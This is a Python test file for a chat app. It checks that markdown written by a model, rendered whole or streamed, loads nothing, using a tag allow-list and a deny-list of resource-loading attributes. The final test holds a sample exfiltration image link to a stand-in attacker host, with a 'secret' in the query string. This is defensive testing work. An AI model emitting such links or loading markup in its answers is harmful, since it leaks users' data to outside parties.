"""Nothing that a model writes makes the page load anything, whether it is finished or arrives piece by piece."""

from html.parser import HTMLParser

import pytest

from chats.markdown import render
from chats.markdown_stream import MarkdownStream

from .exfiltration import TRICKS

# All that an answer may consist of. None of these loads anything by itself.
TAGS = set(
    "a annotation blockquote br button code dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr input label li "
    "ol p pre s section span strong sup table tbody td th thead tr ul math menclose mfrac mi mn mo mover mpadded mroot "
    "mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover semantics".split()
)
LOADING = set(
    "src srcset poster background data style ping action formaction xlink:href manifest cite longdesc archive "
    "codebase dynsrc lowsrc profile usemap icon http-equiv srcdoc".split()
)


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def check(html: str) -> None:
    for tag, attributes in Seen(html).elements:
        assert tag in TAGS, tag
        assert not LOADING & attributes.keys(), (tag, attributes)
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        if "href" in attributes:
            assert tag == "a"
            assert attributes["href"].startswith(("https:", "http:", "mailto:", "#", "/here/"))
        loads = {name for name in attributes if name.startswith("hx-")}
        # Only our own marks do anything when they are pressed.
        assert not loads or attributes["hx-get"] == "/here/1"
        if attributes.get("href", "").startswith("http"):
            assert attributes["rel"] == "noopener noreferrer nofollow"
        if tag == "input":
            assert attributes["type"] == "checkbox"


@pytest.mark.parametrize("trick", TRICKS)
def test_a_finished_answer_loads_nothing(trick: str) -> None:
    check(render(f"Before [1].\n\n{trick}\n\nAfter.", {1: "/here/1"}))


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("step", [1, 7, 1000])
def test_an_answer_that_arrives_loads_nothing(trick: str, step: int) -> None:
    text = f"Before [1].\n\n{trick}\n\nAfter.\n\n"
    stream, done = MarkdownStream(code_id="c", citations={1: "/here/1"}), ""
    for start in range(0, len(text), step):
        change = stream.feed(text[start : start + step], final=start + step >= len(text))
        done += change.finished
        check(done + stream.open_html + stream.open_suffix)


def test_what_a_picture_would_have_shown_can_still_be_followed_on_purpose() -> None:
    html = render("![chart](https://evil.example/p.png?d=secret)")
    assert '<a href="https://evil.example/p.png?d=secret"' in html
    assert ">chart</a>" in html
